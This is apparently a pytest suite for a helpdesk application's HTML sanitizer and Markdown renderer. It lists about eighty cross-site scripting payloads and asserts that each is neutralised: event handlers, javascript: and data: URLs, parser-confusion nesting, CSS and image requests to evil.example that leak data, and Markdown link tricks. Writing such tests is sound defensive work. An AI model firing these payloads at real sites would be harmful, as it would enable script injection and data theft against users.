"""What the cleaner lets through. The attacks are our own; each is tried as HTML and inside Markdown."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from helpdesk.html import clean
from helpdesk.markdown import render_article, render_message

ATTACKS = [
    "<script>window.__pwn=1</script>",
    "<ScRiPt >window.__pwn=1</sCrIpT\n>",
    "<scr<script>ipt>window.__pwn=1</scr</script>ipt>",
    "<img src=x onerror=window.__pwn=1>",
    "<img/src='x'/onerror='window.__pwn=1'//>",
    "<img src=x:x onerror\x0c=window.__pwn=1>",
    "<svg onload=window.__pwn=1>",
    "<svg><a xlink:href='javascript:window.__pwn=1'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:window.__pwn=1 /></svg>",
    "<svg><style><img src=x onerror=window.__pwn=1></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwn=1></style></mglyph></table></math>",
    "<math><mi//xlink:href='data:x,<script>window.__pwn=1</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwn=1>'></noscript>",
    "<template><img src=x onerror=window.__pwn=1></template>",
    "<textarea><img title='</textarea><img src=x onerror=window.__pwn=1>'></textarea>",
    "<title><a title='</title><img src=x onerror=window.__pwn=1>'></title>",
    "<xmp><p title='</xmp><svg/onload=window.__pwn=1>'></xmp>",
    "<!--><img src=x onerror=window.__pwn=1>-->",
    "<!-- --!><img src=x onerror=window.__pwn=1>-->",
    "<![CDATA[<img src=x onerror=window.__pwn=1>]]>",
    "<?xml version='1.0'?><img src=x onerror=window.__pwn=1>",
    "<iframe srcdoc='<script>parent.__pwn=1</script>'></iframe>",
    "<iframe src='javascript:parent.__pwn=1'></iframe>",
    "<object data='javascript:window.__pwn=1'></object>",
    "<embed src='data:text/html,<script>window.__pwn=1</script>'>",
    "<form action='javascript:window.__pwn=1'><input type=submit></form>",
    "<form><button formaction='javascript:window.__pwn=1'>x</button></form>",
    "<input autofocus onfocus=window.__pwn=1>",
    "<input type=image src=x onerror=window.__pwn=1>",
    "<details open ontoggle=window.__pwn=1>x</details>",
    "<video><source onerror=window.__pwn=1></video>",
    "<audio src=x onerror=window.__pwn=1>",
    "<body onload=window.__pwn=1>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__pwn=1'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<p style='background:url(https://evil.example/a)'>x</p>",
    "<p style='animation:x' onanimationstart=window.__pwn=1>x</p>",
    "<a href='javascript:window.__pwn=1'>x</a>",
    "<a href=' \x01javascript:window.__pwn=1'>x</a>",
    "<a href='java\tscript:window.__pwn=1'>x</a>",
    "<a href='&#106;avascript&colon;window.__pwn=1'>x</a>",
    "<a href='JaVaScRiPt:window.__pwn=1'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd249MTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://desk.example/1'>x</a>",
    "<a href='ftp://evil.example/'>x</a>",
    "<a href='sms:+1'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/\\evil.example/'>x</a>",
    "<a href='\\\\evil.example/'>x</a>",
    "<a href='/\t/evil.example/'>x</a>",
    "<a href='x' target=_blank ping='https://evil.example/'>x</a>",
    "<a href='x' onclick=window.__pwn=1>x</a>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='data:image/svg+xml,<svg onload=window.__pwn=1>'>",
    "<img srcset='https://evil.example/a 1x'>",
    "<div id=main class='button' hx-get='/tickets/1' data-hx-post='/x'>x</div>",
    "<p id='ticket-form'>x</p>",
    "<span class='navigation button--primary'>x</span>",
    "<custom-element onclick=window.__pwn=1>x</custom-element>",
    "[x](javascript:window.__pwn=1)",
    "[x](JaVaScRiPt&colon;window.__pwn=1)",
    "[x](<java\tscript:window.__pwn=1>)",
    "[x](data:text/html,<script>window.__pwn=1</script>)",
    "<javascript:window.__pwn=1>",
    '[x](x "onmouseover=window.__pwn=1")',
    '[x]("><img src=x onerror=window.__pwn=1>)',
    "![x](x\"onerror=window.__pwn=1)",
    "![x](https://evil.example/pixel.gif)",
    "[x]: javascript:window.__pwn=1\n\n[x]",
    "```\"><img src=x onerror=window.__pwn=1>\nx\n```",
    "```x onmouseover=window.__pwn=1\nx\n```",
    "!!! note\" onclick=window.__pwn=1 \"\n    x",
    "[^1]\n\n[^1]: <img src=x onerror=window.__pwn=1>",
    "# <img src=x onerror=window.__pwn=1>",
    "| <img src=x onerror=window.__pwn=1> |\n|---|\n| `<svg onload=window.__pwn=1>` |",
    "`<img src=x onerror=window.__pwn=1>`",
    "\x00<img src=x onerror=window.__pwn=1>\ud800",
]  # fmt: skip

HARMLESS = re.compile(r"(https?:|mailto:|tel:|#s-|/(?![/\\])|(?![a-zA-Z][a-zA-Z0-9+.-]*:)[^/\\\s])")
ATTRIBUTES = {
    "href", "title", "src", "alt", "width", "height", "start", "colspan", "rowspan", "id", "class", "rel",
    "type", "disabled", "checked", "data-language",
}  # fmt: skip
FORBIDDEN = {
    "script", "style", "svg", "math", "iframe", "object", "embed", "form", "button", "base", "meta",
    "link", "template", "noscript", "textarea", "select", "title", "xmp", "video", "audio", "source", "body",
    "details",
}  # fmt: skip


class Inspector(HTMLParser):
    """Fails on anything that could run, load, submit or lead to a scheme we do not know."""

    def handle_starttag(self, tag, attributes):
        assert tag not in FORBIDDEN, tag
        for name, value in attributes:
            assert name in ATTRIBUTES, (tag, name)
            if name in ("href", "src"):
                assert HARMLESS.match(value or "#s-"), (tag, name, value)
            if name == "src":
                assert ":" not in value and not value.startswith(("//", "\\")), value
            if name == "id":
                assert value.startswith("s-")
            if tag == "input":
                assert dict(attributes)["type"] == "checkbox" and "disabled" in dict(attributes)


def inspect(html):
    Inspector(convert_charrefs=False).feed(html)
    assert "\0" not in html
    html.encode()


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_dead_as_html_and_as_markdown(attack):
    for html in (clean(attack), render_article(attack).html, render_message(attack)):
        inspect(html)
        assert clean(html) == html


@pytest.mark.parametrize("first", ATTACKS[::7])
@pytest.mark.parametrize("second", ATTACKS[::5])
def test_two_attacks_in_one_text_are_as_dead_as_one(first, second):
    for text in (first + second, f"> {first}\n\n- {second}", f"[{first}](<{second}>)"):
        inspect(clean(text))
        inspect(render_message(text))
        inspect(render_article(text).html)


TAGS = "<b>|</b>|<p>|<table>|<td>|</table>|<a href=x>|<li>|<ul>|</ul>|<pre>|<div>|</div>|<h2 id=a>"
pieces = st.sampled_from([*TAGS.split("|"), *ATTACKS, "&lt;", "&#0;", "\n", "\r", "\x0c", *"<>\"'=x文"])


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=200), st.lists(pieces, max_size=12).map("".join)))
@example("<A><TABLE><A>")
def test_what_is_clean_stays_as_it_is(html):
    once = clean(html)
    inspect(once)
    assert clean(once) == once


def test_too_deep_or_too_long_is_shown_as_text_at_once():
    started = time.thread_time()
    deep = clean("<div>" * 100_000)
    assert deep.startswith('<pre class="plain">') and "&lt;div&gt;" in deep
    assert clean("<div></b>" * 50_000).startswith('<pre class="plain">')
    assert clean("x" * 2_000_000).startswith('<pre class="plain">')
    assert time.thread_time() - started < 2


def test_a_place_on_the_page_cannot_be_taken_by_the_text():
    html = clean('<h2 id="main">Main</h2><a href="#main">up</a><a href="#s-main">up</a>')
    assert 'id="s-main"' in html
    assert html.count('href="#s-main"') == 2


def test_links_tell_the_other_side_nothing():
    assert clean('<a href="https://docs.example/">x</a>') == (
        '<a href="https://docs.example/" rel="noopener nofollow">x</a>'
    )
